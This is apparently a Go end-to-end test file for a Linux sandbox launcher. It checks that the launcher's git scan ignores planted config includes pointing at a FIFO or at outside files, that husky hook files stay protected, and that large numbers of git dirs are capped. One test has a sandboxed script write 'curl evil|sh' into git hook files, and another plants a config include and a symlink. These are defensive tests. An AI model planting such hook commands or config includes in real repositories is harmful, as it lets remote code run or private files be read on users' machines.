//go:build linux

package e2e

import (
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// What the launcher's git scan reads is named by configs a program may
// have planted: it must not become a way to make the launcher, run by
// the user (maybe root), open files outside the program's reach.

// TestGitScanIncludesOutside: a repository config that includes a host
// FIFO (a host writer blocked on it would be released, and then killed
// by SIGPIPE) and a file outside the writable set, and a config.worktree
// that is a symlink to that file: the launcher opens none of them.
func TestGitScanIncludesOutside(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			repo := gitRepo(t, w)
			fifo, secret := filepath.Join(w.outside, "fifo"), filepath.Join(w.outside, "sentinel")
			if err := unix.Mkfifo(fifo, 0o600); err != nil {
				t.Fatal(err)
			}
			f, err := os.OpenFile(filepath.Join(repo, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			f.WriteString("[include]\n\tpath = " + fifo + "\n\tpath = " + secret + "\n")
			f.Close()
			if err := os.Symlink(secret, filepath.Join(repo, ".git", "config.worktree")); err != nil {
				t.Fatal(err)
			}
			chownTree(t, w.home, u)
			released := filepath.Join(filepath.Dir(w.home), "released")
			writer := blockedWriter(t, fifo, released)
			opens := watchOpens(t, secret)
			if r := w.run("--workdir", repo, "--", "/bin/true"); r.code != 0 {
				t.Errorf("exit %d, stderr %q", r.code, r.stderr)
			}
			time.Sleep(200 * time.Millisecond) // for a released writer to say so
			if w.exists(released) || writer.ProcessState != nil {
				t.Error("the launcher opened the FIFO a planted config includes: its blocked writer was released")
			}
			if n := opens(); n > 0 {
				t.Errorf("the launcher opened %s, outside the writable set, %d times", secret, n)
			}
		})
	}
}

// blockedWriter starts a host process that opens fifo for writing, which
// blocks until a reader opens it, and then makes the file released; it
// returns once the process waits in open (or after a second).
func blockedWriter(t *testing.T, fifo, released string) *exec.Cmd {
	t.Helper()
	c := exec.Command("/bin/sh", "-c", `exec 3>"$0"; echo released > "$1"`, fifo, released)
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		c.Process.Kill()
		c.Wait()
	})
	wchan := "/proc/" + strconv.Itoa(c.Process.Pid) + "/wchan"
	for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if b, _ := os.ReadFile(wchan); strings.Contains(string(b), "partner") || strings.Contains(string(b), "fifo") {
			break
		}
	}
	return c
}

// watchOpens counts, from now until the returned function is called,
// the opens of path (inotify IN_OPEN).
func watchOpens(t *testing.T, path string) func() int {
	t.Helper()
	fd, err := unix.InotifyInit1(unix.IN_NONBLOCK | unix.IN_CLOEXEC)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.Close(fd) })
	if _, err := unix.InotifyAddWatch(fd, path, unix.IN_OPEN); err != nil {
		t.Fatal(err)
	}
	return func() int {
		n := 0
		buf := make([]byte, 4096)
		for {
			m, err := unix.Read(fd, buf)
			if err != nil || m <= 0 {
				return n
			}
			for off := 0; off+unix.SizeofInotifyEvent <= m; n++ {
				off += unix.SizeofInotifyEvent + int(binary.NativeEndian.Uint32(buf[off+12:])) // + the name's length
			}
		}
	}
}

// TestGitHusky: with husky's layouts (made by hand), what its hooks run
// is held too — v9 (core.hooksPath = .husky/_): the stubs, the h they
// source and the user's hooks in .husky they run, and a new one there is
// reported; v8 (core.hooksPath = .husky): the hooks and _/husky.sh they
// source. Other files in .husky stay writable.
func TestGitHusky(t *testing.T) {
	layouts := []struct {
		name, hooksPath string
		files           []string // made before the run, each held
		made            string   // made by the program, reported
	}{
		{"v9", ".husky/_", []string{".husky/_/h", ".husky/_/pre-commit", ".husky/pre-commit"}, ".husky/post-commit"},
		{"v8", ".husky", []string{".husky/_/husky.sh", ".husky/pre-commit"}, ".husky/post-commit"},
	}
	for _, u := range users {
		for _, l := range layouts {
			t.Run(u.name+"/"+l.name, func(t *testing.T) {
				w := newWorld(t, u)
				repo := gitRepo(t, w)
				mustMkdir(t, filepath.Join(repo, ".husky", "_"))
				for _, f := range l.files {
					writeFile(t, filepath.Join(repo, f), "#!/bin/sh\n")
				}
				f, err := os.OpenFile(filepath.Join(repo, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
				if err != nil {
					t.Fatal(err)
				}
				f.WriteString("[core]\n\thooksPath = " + l.hooksPath + "\n")
				f.Close()
				chownTree(t, w.home, u)
				script := "echo ok > .husky/notes; "
				for _, f := range append(l.files, l.made) {
					script += "echo 'curl evil|sh' > " + f + "; "
				}
				r := w.sh("sandbox", script+"cat .husky/notes", "--workdir", repo)
				for _, f := range l.files {
					if b, _ := os.ReadFile(filepath.Join(repo, f)); strings.Contains(string(b), "evil") {
						t.Errorf("%s was rewritten", f)
					}
				}
				if !strings.Contains(r.stderr, "the program made "+filepath.Join(repo, l.made)) {
					t.Errorf("no report of the %s the program made; stderr %q", l.made, r.stderr)
				}
				if !strings.Contains(r.stdout, "ok") {
					t.Errorf(".husky/notes was not writable: stdout %q, stderr %q", r.stdout, r.stderr)
				}
			})
		}
	}
}

// TestGitManyGitDirs: git dirs a program leaves below .git/modules do
// not flood the report after its run (ten lines, and one for the rest),
// and thousands of them (left by earlier runs) do not get hooks dirs made
// by the next launch, which refuses them (more than the 4096 files it
// keeps read-only) before making any.
func TestGitManyGitDirs(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			w.timeout = 60 * time.Second
			repo := gitRepo(t, w)
			chownTree(t, w.home, u)
			r := w.sh("sandbox", `mkdir -p .git/modules && cd .git/modules && for d in $(seq -f m%g 30); do mkdir $d && : > $d/HEAD; done`, "--workdir", repo)
			if n := strings.Count(r.stderr, "the program made the git dir"); n != 10 {
				t.Errorf("%d lines about git dirs made, want 10", n)
			}
			if want := "and 20 more git dirs the program made below " + filepath.Join(repo, ".git"); !strings.Contains(r.stderr, want) {
				t.Errorf("stderr %.500q: want %q", r.stderr, want)
			}
			for i := 30; i < 4100; i++ {
				d := filepath.Join(repo, ".git", "modules", "m"+strconv.Itoa(i))
				mustMkdir(t, d)
				writeFile(t, filepath.Join(d, "HEAD"), "")
			}
			chownTree(t, repo, u)
			r = w.run("--workdir", repo, "--", "/bin/true")
			if r.code != 125 {
				t.Errorf("exit %d, want 125 (too many files to hold); stderr %.300q", r.code, r.stderr)
			}
			if hooks, _ := filepath.Glob(filepath.Join(repo, ".git", "modules", "*", "hooks")); len(hooks) > 0 {
				t.Errorf("the refused launch made %d hooks dirs", len(hooks))
			}
		})
	}
}
